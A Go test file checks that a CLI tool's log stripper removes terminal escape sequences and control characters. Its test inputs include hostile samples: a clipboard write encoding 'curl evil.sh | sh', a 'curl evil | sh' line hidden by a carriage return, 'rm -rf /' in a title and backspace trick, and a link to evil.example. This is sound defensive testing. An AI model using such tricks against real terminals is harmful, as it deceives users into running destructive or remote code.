package maoctl

import (
	"bytes"
	"strings"
	"testing"

	"github.com/mao-research/mao/api"
	"github.com/mao-research/mao/internal/testsite"
)

func TestStripper(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text", "step 1 of 12\nstep 2\tdone\n", "step 1 of 12\nstep 2\tdone\n"},
		{"UTF-8", "café 日本 🙂 ±3σ\n", "café 日本 🙂 ±3σ\n"},
		{"colours", "\x1b[1;31mred\x1b[0m and \x1b[38;2;255;0;0mtrue colour\x1b[m\n", "red and true colour\n"},
		{"cursor moves and erasing", "\x1b[2J\x1b[H\x1b[10;20Hhidden?\x1b[1A\x1b[2K\x1b[?25l\n", "hidden?\n"},
		{"OSC 52 clipboard write, BEL", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07after\n", "after\n"},
		{"OSC 52 clipboard write, ST", "\x1b]52;c;Y3VybA==\x1b\\after\n", "after\n"},
		{"title change", "\x1b]0;root@prod: rm -rf /\x07\x1b]2;x\x1b\\ok\n", "ok\n"},
		{"hyperlink", "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\\n", "click here\n"},
		{"bell", "done\a\a\n", "done\n"},
		{"backspaces cannot rewrite text", "rm -rf /\b\b\b\b\b\b\b\bls     \n", "rm -rf /ls     \n"},
		{"carriage return cannot hide a line", "curl evil | sh\rls -l         \n", "curl evil | sh\nls -l         \n"},
		{"CR LF is one newline", "a\r\nb\r\n", "a\nb\n"},
		{"progress", "10%\r20%\r100%\n", "10%\n20%\n100%\n"},
		{"CR, erase line, LF", "a\r\x1b[K\nb\n", "a\nb\n"},
		{"8-bit CSI", "\u009b31mX\u009b0m\n", "X\n"},
		{"8-bit OSC and ST", "\u009d0;title\u009cY\n", "Y\n"},
		{"other C1 controls", "a\u0085b\u008dc\n", "abc\n"},
		{"DCS", "\x1bPq#0;2;0;0;0#0~~\x1b\\Z\n", "Z\n"},
		{"APC, PM, SOS", "\x1b_app\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\A\n", "A\n"},
		{"unterminated OSC ends at the line", "\x1b]0;swallow everything\nnext line\n", "\nnext line\n"},
		{"charset switch", "\x1b(0lqk\x1b(B\n", "lqk\n"},
		{"two-byte escapes", "\x1bc\x1b7\x1b8\x1b=\x1bMz\n", "z\n"},
		{"ESC before a newline", "a\x1b\nb\n", "a\nb\n"},
		{"other C0 controls and DEL", "a\x00b\x0bc\x0cd\x0ee\x7ff\n", "abcdef\n"},
		{"invalid UTF-8", "a\xffb\xc3\n", "a\ufffdb\ufffd\n"},
		{"ESC inside a CSI starts again", "\x1b[3\x1b[31mX\n", "X\n"},
		{"newline aborts a CSI", "\x1b[31\nX\n", "\nX\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var whole bytes.Buffer
			s := &stripper{w: &whole}
			if n, err := s.Write([]byte(tc.in)); err != nil || n != len(tc.in) {
				t.Fatalf("Write = %d, %v", n, err)
			}
			if whole.String() != tc.want {
				t.Errorf("in one write: %q, want %q", whole.String(), tc.want)
			}
			// The same, a byte at a time: sequences and characters split
			// across writes.
			var bytewise bytes.Buffer
			s = &stripper{w: &bytewise}
			for i := range len(tc.in) {
				s.Write([]byte{tc.in[i]})
			}
			if bytewise.String() != tc.want {
				t.Errorf("a byte at a time: %q, want %q", bytewise.String(), tc.want)
			}
		})
	}
}

// A log that reaches a writer that is not a terminal passes unchanged.
func TestLogsPassUnchangedWhenNotATerminal(t *testing.T) {
	s := testsite.Start(t, testsite.Options{})
	hostile := "\x1b]52;c;ZXZpbA==\x07\x1b[31mred\x1b[0m\rover\a\n"
	id := hostileRun(t, s, hostile)
	var out, errOut bytes.Buffer
	if err := Run(t.Context(), []string{"--addr", s.Addr, "run", "logs", id}, &out, &errOut); err != nil {
		t.Fatal(err, errOut.String())
	}
	if out.String() != hostile {
		t.Errorf("stdout %q, want the log unchanged %q", out.String(), hostile)
	}
	if strings.Contains(errOut.String(), "\x1b") {
		t.Errorf("stderr %q", errOut.String())
	}
}

// hostileRun records at s a run that succeeded with log as its log, and
// returns its ID.
func hostileRun(t *testing.T, s *testsite.Site, log string) string {
	t.Helper()
	id := seedID("gh-crawler", at(0), 0x99)
	s.Run(t, api.Run{ID: id, Tool: "gh-crawler", Site: s.Name, State: api.StateSucceeded, Trigger: api.TriggerManual,
		Image: "mao/gh-crawler:1.2", Network: "none", DataRepo: "https://git.example.org/data/gh.git", ExitCode: intPtr(0),
		Attempt: 1, MaxAttempts: 1, CreatedAt: *at(0), StartedAt: at(1), FinishedAt: at(2)})
	s.Log(t, id, log)
	return id
}
